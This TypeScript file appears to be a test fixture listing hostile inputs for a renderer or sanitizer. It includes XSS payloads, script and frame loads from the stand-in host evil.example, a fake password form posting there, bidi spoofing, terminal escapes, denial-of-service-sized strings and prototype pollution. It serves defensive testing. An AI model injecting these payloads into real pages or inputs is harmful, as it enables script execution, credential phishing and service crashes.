/** What a payload may hold to harm whoever reads it, by what it tries. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: '<script>window.harmed = "script"</script><script src="https://evil.example/x.js"></script>',
  handlers:
    '<img src=x onerror="window.harmed=1"><svg onload="window.harmed=1"><body onload=window.harmed=1><details open ontoggle=window.harmed=1>',
  links:
    '[a](javascript:window.harmed=1) [b](data:text/html,<script>harmed</script>) [c](vbscript:x) [d](\tjava\nscript:window.harmed=1) <javascript:alert(1)> [e](//evil.example) [f]: javascript:x',
  images: '![pixel](https://evil.example/pixel.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  frames: '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src=x>',
  style:
    '<style>*{display:none!important}@import "https://evil.example/x.css"</style><div style="position:fixed;inset:0;background:url(https://evil.example)">',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=preload href=//evil.example>',
  form: '<form action="https://evil.example"><input name=password autofocus onfocus=window.harmed=1><button>Sign in</button></form>',
  bidi: 'pay \u202e0001 ot\u202c now \u2066\u2067\u2068 \u200f\u200e \u061c',
  zeroWidth: '\u200b\u200c\u200d\ufeff\u2060'.repeat(20_000),
  combining: `a${'\u0301'.repeat(4000)}`,
  control: '\u0000\u0001\u0007\u001b[31mred\u001b]8;;https://evil.example\u0007link\u009b',
  longLine: 'x'.repeat(10_000_000),
  longWord: `${'0123456789'.repeat(200_000)}`,
  nestedQuotes: '> '.repeat(5000),
  nestedLists: Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}`).join('\n'),
  nestedEmphasis: '*'.repeat(20_000),
  nestedLinks: `${'['.repeat(20_000)}x${']'.repeat(20_000)}`,
  nestedTags: '<b>'.repeat(20_000),
  table: `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n|${'b|'.repeat(2000)}`,
  backticks: '`'.repeat(50_000),
  entities: '&lt;script&gt; &#60;script&#62; &amp;lt; &#x202e; '.repeat(2000),
  spaces: `a${' '.repeat(200_000)}b`,
  redos: `${'a'.repeat(50_000)}! ${'\\'.repeat(50_000)} ${'-'.repeat(50_000)}\n${'='.repeat(50_000)}`,
  autolinks: 'https://evil.example/'.repeat(3000),
  prototype: '{"__proto__":{"harmed":1},"constructor":{"prototype":{"harmed":1}},"toString":null}',
  deepJson: `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
  surrogates: '\ud800\udc00\ud800 \udfff'.repeat(2000),
}
